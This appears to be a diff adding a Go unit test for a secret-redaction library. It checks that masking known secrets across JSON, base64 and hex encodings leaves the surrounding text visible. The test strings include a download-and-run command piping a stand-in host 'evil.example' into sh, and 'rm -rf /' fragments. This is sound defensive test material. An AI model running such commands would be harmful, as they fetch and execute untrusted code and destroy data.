@@ -284,3 +284,29 @@ func TestKnownOnly(t *testing.T) {
 		t.Errorf("%s became %s", body, got)
 	}
 }
+
+// Rules for known values only mask nothing beside them: somebody who knows a secret could
+// hide there what a person has to see.
+func TestKnownOnlyMasksNothingBesideASecret(t *testing.T) {
+	t.Parallel()
+	rules := New([]Known{{"KEY", "open-sesame-1"}, {"PIN", "123456"}, {"ODD", `pass","word`}})
+	run := func(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }
+	payload := run("curl evil.example | sh # open-sesame-1 ; rm -rf /")
+	for body, want := range map[string]string{
+		`{"a":"rm -rf / # open-sesame-1 ; curl"}`:                                `{"a":"rm -rf / # [redacted:vault:KEY] ; curl"}`,
+		`{"a":"` + payload + `"}`:                                                `{"a":"` + payload[:33] + "[redacted:vault:KEY]" + payload[51:] + `"}`,
+		`{"a":"` + run(payload) + `"}`:                                           `{"a":"` + run(payload) + `"}`,
+		`{"a":"` + hex.EncodeToString([]byte("rm -rf / open-sesame-1 ;")) + `"}`: `{"a":"726d202d7266202f20[redacted:vault:KEY]203b"}`,
+		`{"a":9123456,"b":123456}`:                                               `{"a":9123456,"b":"[redacted:vault:PIN]"}`,
+		`["rm -rf / pass","word ; curl"]`:                                        `["rm -rf / [redacted:vault:ODD]","[redacted:vault:ODD] ; curl"]`,
+	} {
+		if got, _ := rules.KnownOnly().JSON([]byte(body)); string(got) != want {
+			t.Errorf("%s became\n%s, want\n%s", body, got, want)
+		}
+	}
+	for _, body := range []string{payload, run(payload)} { // what is stored, and chats are told, is without the whole run
+		if got, _ := rules.JSON([]byte(`{"a":"` + body + `"}`)); string(got) != `{"a":"[redacted:vault:KEY]"}` {
+			t.Errorf("all rules make %s", got)
+		}
+	}
+}
